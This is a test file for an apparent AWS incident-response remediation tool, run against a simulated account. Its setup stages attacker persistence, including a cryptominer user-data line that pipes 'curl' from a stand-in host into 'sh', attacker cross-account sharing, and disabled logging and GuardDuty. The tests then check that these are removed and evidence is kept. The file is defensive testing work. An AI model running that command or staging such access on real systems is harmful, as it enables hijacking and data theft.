import { createHash } from 'node:crypto';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import {
  CloudFormationClient,
  CreateStackCommand,
  DescribeStacksCommand,
} from '@aws-sdk/client-cloudformation';
import {
  CloudTrailClient,
  CreateTrailCommand,
  GetEventSelectorsCommand,
  GetTrailStatusCommand,
  PutEventSelectorsCommand,
  StartLoggingCommand,
  StopLoggingCommand,
} from '@aws-sdk/client-cloudtrail';
import {
  AuthorizeSecurityGroupIngressCommand,
  CreateImageCommand,
  CreateSecurityGroupCommand,
  CreateSnapshotCommand,
  CreateVolumeCommand,
  DescribeImageAttributeCommand,
  DescribeInstancesCommand,
  DescribeKeyPairsCommand,
  DescribeSecurityGroupsCommand,
  DescribeSnapshotAttributeCommand,
  DescribeSnapshotsCommand,
  EC2Client,
  ImportKeyPairCommand,
  ModifyImageAttributeCommand,
  ModifyInstanceAttributeCommand,
  ModifySnapshotAttributeCommand,
  RunInstancesCommand,
} from '@aws-sdk/client-ec2';
import {
  CreateDetectorCommand,
  DeleteDetectorCommand,
  GetDetectorCommand,
  GuardDutyClient,
  ListDetectorsCommand,
  UpdateDetectorCommand,
} from '@aws-sdk/client-guardduty';
import {
  AddPermissionCommand,
  CreateFunctionCommand,
  CreateFunctionUrlConfigCommand,
  GetFunctionUrlConfigCommand,
  GetPolicyCommand,
  LambdaClient,
} from '@aws-sdk/client-lambda';
import {
  CreateBucketCommand,
  DeletePublicAccessBlockCommand,
  GetBucketAclCommand,
  GetBucketPolicyCommand,
  HeadBucketCommand,
  PutBucketAclCommand,
  PutBucketOwnershipControlsCommand,
  PutBucketPolicyCommand,
  PutObjectCommand,
  S3Client,
} from '@aws-sdk/client-s3';
import {
  CreateSecretCommand,
  GetResourcePolicyCommand,
  PutResourcePolicyCommand,
  SecretsManagerClient,
} from '@aws-sdk/client-secrets-manager';
import { CreateRoleCommand } from '@aws-sdk/client-iam';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { zipOneFile } from '../../sim/services/lambda/zip.js';
import { amiFor } from '../../sim/scenarios/world.js';
import { runAws } from '../../sim/test-support/aws.js';
import { EVIDENCE_TAG } from './ec2.js';
import { A, caseVerifies, outcome, planAndApply, startBed, type Bed } from './test-support/bed.js';

const ATTACKER = '444455556666';
const REGION = 'ap-southeast-1';
const MINER = '#!/bin/bash\ncurl -s http://pool.example/xmrig | sh\n';
const SSH_KEY = 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAILT8JP9jZHhhrObTMUM3AKYnwXKhy8Shr4/prZiEBnU2 root@kali';

let bed: Bed;
beforeAll(async () => {
  bed = await startBed('eradicate-resources');
});
afterAll(() => bed.stop());

const evidenceText = (dir: string, path: string) => readFileSync(join(dir, 'evidence', path));
const named = (paths: string[], suffix: string) => paths.filter((p) => p.endsWith(`/${suffix}`));

describe('EC2, S3, Lambda, CloudFormation and logging actions against the simulated account', () => {
  it('EC2: instances snapshotted then terminated; group, key pair, opened rule and shares removed', async () => {
    const ec2 = bed.client(EC2Client, REGION);
    const sg = (
      await ec2.send(new CreateSecurityGroupCommand({ GroupName: 'default-ssh', Description: 'ssh' }))
    ).GroupId!;
    await ec2.send(
      new AuthorizeSecurityGroupIngressCommand({
        GroupId: sg,
        IpPermissions: [{ IpProtocol: 'tcp', FromPort: 22, ToPort: 22, IpRanges: [{ CidrIp: '0.0.0.0/0' }] }],
      }),
    );
    await ec2.send(
      new ImportKeyPairCommand({ KeyName: 'ops-recovery', PublicKeyMaterial: Buffer.from(SSH_KEY) }),
    );
    const run = await ec2.send(
      new RunInstancesCommand({
        ImageId: amiFor(REGION),
        InstanceType: 'p3.16xlarge',
        MinCount: 2,
        MaxCount: 2,
        SecurityGroupIds: [sg],
        KeyName: 'ops-recovery',
        UserData: Buffer.from(MINER).toString('base64'),
      }),
    );
    const ids = run.Instances!.map((i) => i.InstanceId!);
    await ec2.send(
      new ModifyInstanceAttributeCommand({ InstanceId: ids[0], DisableApiTermination: { Value: true } }),
    );
    // Pre-existing: the app's group with a rule the attacker added, a backup snapshot and an AMI shared out.
    const appSg = (await ec2.send(new CreateSecurityGroupCommand({ GroupName: 'app', Description: 'app' })))
      .GroupId!;
    await ec2.send(
      new AuthorizeSecurityGroupIngressCommand({
        GroupId: appSg,
        IpPermissions: [
          {
            IpProtocol: 'tcp',
            FromPort: 443,
            ToPort: 443,
            IpRanges: [{ CidrIp: '10.0.0.0/8' }, { CidrIp: '0.0.0.0/0' }],
          },
        ],
      }),
    );
    const volume = (await ec2.send(new CreateVolumeCommand({ AvailabilityZone: `${REGION}a`, Size: 8 })))
      .VolumeId!;
    const backup = (await ec2.send(new CreateSnapshotCommand({ VolumeId: volume }))).SnapshotId!;
    await ec2.send(
      new ModifySnapshotAttributeCommand({
        SnapshotId: backup,
        Attribute: 'createVolumePermission',
        OperationType: 'add',
        UserIds: [ATTACKER],
      }),
    );
    const image = (await ec2.send(new CreateImageCommand({ InstanceId: ids[1], Name: 'golden' }))).ImageId!;
    await ec2.send(
      new ModifyImageAttributeCommand({ ImageId: image, LaunchPermission: { Add: [{ UserId: ATTACKER }] } }),
    );

    const at = { account: A };
    const result = await planAndApply(bed, [
      ...ids.map((instanceId) => ({
        ...at,
        action: 'terminate-instance',
        params: { region: REGION, instanceId },
      })),
      { ...at, action: 'delete-security-group', params: { region: REGION, groupId: sg } },
      { ...at, action: 'delete-key-pair', params: { region: REGION, keyName: 'ops-recovery' } },
      {
        ...at,
        action: 'revoke-ingress',
        params: { region: REGION, groupId: appSg, port: '443', cidr: '0.0.0.0/0' },
      },
      {
        ...at,
        action: 'unshare-snapshot',
        params: { region: REGION, snapshotId: backup, accounts: ATTACKER },
      },
      { ...at, action: 'unshare-image', params: { region: REGION, imageId: image } },
    ]);
    expect(result.apply.results.map((r) => [r.step.action, r.outcome, r.verify?.ok])).toEqual([
      ['terminate-instance', 'applied', true],
      ['terminate-instance', 'applied', true],
      ['delete-security-group', 'applied', true],
      ['delete-key-pair', 'applied', true],
      ['revoke-ingress', 'applied', true],
      ['unshare-snapshot', 'applied', true],
      ['unshare-image', 'applied', true],
    ]);
    const states = (await ec2.send(new DescribeInstancesCommand({ InstanceIds: ids })))
      .Reservations!.flatMap((r) => r.Instances!)
      .map((i) => i.State?.Name);
    expect(states.every((s) => s === 'terminated' || s === 'shutting-down')).toBe(true);
    // One evidence snapshot per root volume, tagged with the case and listed in the evidence.
    const kept = (
      await ec2.send(
        new DescribeSnapshotsCommand({
          OwnerIds: ['self'],
          Filters: [{ Name: 'tag-key', Values: [EVIDENCE_TAG.case] }],
        }),
      )
    ).Snapshots!;
    expect(kept).toHaveLength(2);
    const listed = named(result.evidence, 'snapshots.json').flatMap(
      (p) => JSON.parse(evidenceText(result.dir, p).toString()) as { snapshotId: string }[],
    );
    expect(listed.map((s) => s.snapshotId).sort()).toEqual(kept.map((s) => s.SnapshotId).sort());
    expect(named(result.evidence, 'user-data').map((p) => evidenceText(result.dir, p).toString())).toEqual([
      MINER,
      MINER,
    ]);
    expect(await outcome(() => ec2.send(new DescribeSecurityGroupsCommand({ GroupIds: [sg] })))).toBe(
      'InvalidGroup.NotFound',
    );
    expect(await outcome(() => ec2.send(new DescribeKeyPairsCommand({ KeyNames: ['ops-recovery'] })))).toBe(
      'InvalidKeyPair.NotFound',
    );
    const app = (await ec2.send(new DescribeSecurityGroupsCommand({ GroupIds: [appSg] })))
      .SecurityGroups![0]!;
    expect(app.IpPermissions!.flatMap((r) => r.IpRanges!.map((x) => x.CidrIp))).toEqual(['10.0.0.0/8']);
    expect(
      (
        await ec2.send(
          new DescribeSnapshotAttributeCommand({ SnapshotId: backup, Attribute: 'createVolumePermission' }),
        )
      ).CreateVolumePermissions,
    ).toEqual([]);
    expect(
      (await ec2.send(new DescribeImageAttributeCommand({ ImageId: image, Attribute: 'launchPermission' })))
        .LaunchPermissions,
    ).toEqual([]);
    // The official CLI reads the same: the backup snapshot stays, unshared.
    const cli = await runAws(
      bed.sim,
      bed.responder,
      [
        'ec2',
        'describe-snapshot-attribute',
        '--snapshot-id',
        backup,
        '--attribute',
        'createVolumePermission',
        '--output',
        'json',
      ],
      REGION,
    );
    expect(JSON.parse(cli.stdout)).toMatchObject({ SnapshotId: backup, CreateVolumePermissions: [] });
    expect(await caseVerifies(result.dir)).toBe(true);

    // A second apply in the same case: every step a no-op, no new snapshot.
    const again = await planAndApply(
      bed,
      result.plan.steps.map((s) => ({ action: s.action, account: s.account, params: s.params })),
      result.dir,
    );
    expect(again.plan.steps.every((s) => s.noop)).toBe(true);
    expect(
      (
        await ec2.send(
          new DescribeSnapshotsCommand({
            OwnerIds: ['self'],
            Filters: [{ Name: 'tag-key', Values: [EVIDENCE_TAG.case] }],
          }),
        )
      ).Snapshots,
    ).toHaveLength(2);
  });

  it('S3: an attacker bucket emptied and deleted after its listing is kept; a replaced policy and a public ACL restored', async () => {
    const s3 = bed.client(S3Client);
    await s3.send(new CreateBucketCommand({ Bucket: 'exfil-drop' }));
    for (const key of ['a.csv', 'b.csv', 'dir/c.csv'])
      await s3.send(new PutObjectCommand({ Bucket: 'exfil-drop', Key: key, Body: key }));
    await s3.send(new CreateBucketCommand({ Bucket: 'customer-data' }));
    const prior = `{"Version":"2012-10-17","Statement":[{"Sid":"Tls","Effect":"Deny","Principal":"*","Action":"s3:*","Resource":"arn:aws:s3:::customer-data/*","Condition":{"Bool":{"aws:SecureTransport":"false"}}}]}`;
    await s3.send(new PutBucketPolicyCommand({ Bucket: 'customer-data', Policy: prior }));
    await s3.send(
      new PutBucketPolicyCommand({
        Bucket: 'customer-data',
        Policy: `{"Version":"2012-10-17","Statement":[{"Sid":"Replication","Effect":"Allow","Principal":{"AWS":"arn:aws:iam::${ATTACKER}:root"},"Action":["s3:GetObject"],"Resource":"arn:aws:s3:::customer-data/*"}]}`,
      }),
    );
    await s3.send(new CreateBucketCommand({ Bucket: 'site-assets' }));
    await s3.send(
      new PutBucketOwnershipControlsCommand({
        Bucket: 'site-assets',
        OwnershipControls: { Rules: [{ ObjectOwnership: 'ObjectWriter' }] },
      }),
    );
    await s3.send(new DeletePublicAccessBlockCommand({ Bucket: 'site-assets' }));
    await s3.send(new PutBucketAclCommand({ Bucket: 'site-assets', ACL: 'public-read' }));

    const result = await planAndApply(bed, [
      { action: 'delete-bucket', account: A, params: { bucket: 'exfil-drop' } },
      {
        action: 'restore-bucket-policy',
        account: A,
        params: { bucket: 'customer-data', priorPolicy: prior },
      },
      { action: 'restore-bucket-acl', account: A, params: { bucket: 'site-assets' } },
    ]);
    expect(result.apply.verified).toBe(true);
    expect(await outcome(() => s3.send(new HeadBucketCommand({ Bucket: 'exfil-drop' })))).toBe('NotFound');
    const listing = JSON.parse(
      evidenceText(result.dir, named(result.evidence, 'objects.json')[0]!).toString(),
    ) as { key: string }[];
    expect(listing.map((o) => o.key)).toEqual(['a.csv', 'b.csv', 'dir/c.csv']);
    expect((await s3.send(new GetBucketPolicyCommand({ Bucket: 'customer-data' }))).Policy).toBe(prior);
    const grants = (await s3.send(new GetBucketAclCommand({ Bucket: 'site-assets' }))).Grants!;
    expect(grants.map((g) => g.Grantee?.Type)).toEqual(['CanonicalUser']);
    expect(await caseVerifies(result.dir)).toBe(true);
  });

  it('Lambda: the backdoor function deleted after its code package is kept (sha256 = CodeSha256); a URL and a permission taken off a function that stays', async () => {
    const lambda = bed.client(LambdaClient);
    const role = (
      await bed.iam.send(
        new CreateRoleCommand({
          RoleName: 'fn-role',
          AssumeRolePolicyDocument:
            '{"Version":"2012-10-17","Statement":[{"Effect":"Allow","Principal":{"Service":"lambda.amazonaws.com"},"Action":"sts:AssumeRole"}]}',
        }),
      )
    ).Role!.Arn!;
    const zip = zipOneFile('index.py', 'def handler(e, c):\n    return 1\n');
    for (const name of ['acme-health-check', 'acme-api']) {
      await lambda.send(
        new CreateFunctionCommand({
          FunctionName: name,
          Runtime: 'python3.12',
          Role: role,
          Handler: 'index.handler',
          Code: { ZipFile: zip },
        }),
      );
      await lambda.send(new CreateFunctionUrlConfigCommand({ FunctionName: name, AuthType: 'NONE' }));
      await lambda.send(
        new AddPermissionCommand({
          FunctionName: name,
          StatementId: 'FunctionURLAllowPublicAccess',
          Action: 'lambda:InvokeFunctionUrl',
          Principal: '*',
          FunctionUrlAuthType: 'NONE',
        }),
      );
    }
    const result = await planAndApply(bed, [
      {
        action: 'delete-function',
        account: A,
        params: { region: 'us-east-1', functionName: 'acme-health-check' },
      },
      {
        action: 'delete-function-url',
        account: A,
        params: { region: 'us-east-1', functionName: 'acme-api' },
      },
      {
        action: 'remove-function-permission',
        account: A,
        params: {
          region: 'us-east-1',
          functionName: 'acme-api',
          statementId: 'FunctionURLAllowPublicAccess',
        },
      },
    ]);
    expect(result.apply.verified).toBe(true);
    const code = evidenceText(result.dir, named(result.evidence, 'code.zip')[0]!);
    expect(code.equals(Buffer.from(zip))).toBe(true);
    const config = JSON.parse(
      evidenceText(result.dir, named(result.evidence, 'configuration.json')[0]!).toString(),
    ) as { CodeSha256: string };
    expect(createHash('sha256').update(code).digest('base64')).toBe(config.CodeSha256);
    expect(named(result.evidence, 'function-url.json')).toHaveLength(2);
    const cli = await runAws(bed.sim, bed.responder, [
      'lambda',
      'get-function',
      '--function-name',
      'acme-health-check',
    ]);
    expect(cli.stderr).toContain('ResourceNotFoundException');
    expect(
      await outcome(() => lambda.send(new GetFunctionUrlConfigCommand({ FunctionName: 'acme-api' }))),
    ).toBe('ResourceNotFoundException');
    expect(await outcome(() => lambda.send(new GetPolicyCommand({ FunctionName: 'acme-api' })))).toBe(
      'ResourceNotFoundException',
    );
  });

  it('a stack deleted after its template is kept; logging, event selectors, GuardDuty and a secret policy restored', async () => {
    const cfn = bed.client(CloudFormationClient);
    const template =
      "AWSTemplateFormatVersion: '2010-09-09'\nResources:\n  Drop:\n    Type: AWS::S3::Bucket\n    Properties:\n      BucketName: stack-drop\n";
    await cfn.send(new CreateStackCommand({ StackName: 'miner-stack', TemplateBody: template }));
    const ct = bed.client(CloudTrailClient);
    await bed.client(S3Client).send(new CreateBucketCommand({ Bucket: 'trail-logs' }));
    await ct.send(new CreateTrailCommand({ Name: 'main', S3BucketName: 'trail-logs' }));
    await ct.send(new StartLoggingCommand({ Name: 'main' }));
    const prior = [
      {
        ReadWriteType: 'All' as const,
        IncludeManagementEvents: true,
        DataResources: [{ Type: 'AWS::S3::Object', Values: ['arn:aws:s3:::customer-data/'] }],
      },
    ];
    await ct.send(new PutEventSelectorsCommand({ TrailName: 'main', EventSelectors: prior }));
    await ct.send(
      new PutEventSelectorsCommand({
        TrailName: 'main',
        EventSelectors: [{ ReadWriteType: 'WriteOnly', IncludeManagementEvents: true, DataResources: [] }],
      }),
    );
    await ct.send(new StopLoggingCommand({ Name: 'main' }));
    const gdWest = bed.client(GuardDutyClient, 'eu-west-1');
    const gdNorth = bed.client(GuardDutyClient, 'eu-north-1');
    await gdWest.send(
      new DeleteDetectorCommand({
        DetectorId: (await gdWest.send(new CreateDetectorCommand({ Enable: true }))).DetectorId,
      }),
    );
    const north = (await gdNorth.send(new CreateDetectorCommand({ Enable: true }))).DetectorId!;
    await gdNorth.send(new UpdateDetectorCommand({ DetectorId: north, Enable: false }));
    const sm = bed.client(SecretsManagerClient);
    const secret = (await sm.send(new CreateSecretCommand({ Name: 'prod/db', SecretString: 'hunter2' })))
      .ARN!;
    await sm.send(
      new PutResourcePolicyCommand({
        SecretId: secret,
        ResourcePolicy: `{"Version":"2012-10-17","Statement":[{"Effect":"Allow","Principal":{"AWS":"arn:aws:iam::${ATTACKER}:root"},"Action":"secretsmanager:GetSecretValue","Resource":"*"}]}`,
      }),
    );

    const result = await planAndApply(bed, [
      { action: 'start-logging', account: A, params: { region: 'us-east-1', trailName: 'main' } },
      {
        action: 'restore-event-selectors',
        account: A,
        params: { region: 'us-east-1', trailName: 'main', priorSelectors: JSON.stringify(prior) },
      },
      { action: 'restore-detector', account: A, params: { region: 'eu-west-1' } },
      { action: 'restore-detector', account: A, params: { region: 'eu-north-1' } },
      { action: 'delete-stack', account: A, params: { region: 'us-east-1', stackName: 'miner-stack' } },
      {
        action: 'restore-secret-policy',
        account: A,
        params: { region: 'us-east-1', secretId: secret, removePrincipals: ATTACKER },
      },
    ]);
    expect(result.apply.results.map((r) => [r.step.action, r.outcome, r.verify?.ok])).toEqual([
      ['start-logging', 'applied', true],
      ['restore-event-selectors', 'applied', true],
      ['restore-detector', 'applied', true],
      ['restore-detector', 'applied', true],
      ['delete-stack', 'applied', true],
      ['restore-secret-policy', 'applied', true],
    ]);
    expect((await ct.send(new GetTrailStatusCommand({ Name: 'main' }))).IsLogging).toBe(true);
    expect((await ct.send(new GetEventSelectorsCommand({ TrailName: 'main' }))).EventSelectors).toMatchObject(
      prior,
    );
    expect((await gdWest.send(new ListDetectorsCommand({}))).DetectorIds).toHaveLength(1);
    expect((await gdNorth.send(new GetDetectorCommand({ DetectorId: north }))).Status).toBe('ENABLED');
    expect(await outcome(() => cfn.send(new DescribeStacksCommand({ StackName: 'miner-stack' })))).toBe(
      'ValidationError',
    );
    expect(evidenceText(result.dir, named(result.evidence, 'template')[0]!).toString()).toBe(template);
    expect(
      (await sm.send(new GetResourcePolicyCommand({ SecretId: secret }))).ResourcePolicy,
    ).toBeUndefined();
    expect(await caseVerifies(result.dir)).toBe(true);
  });
});
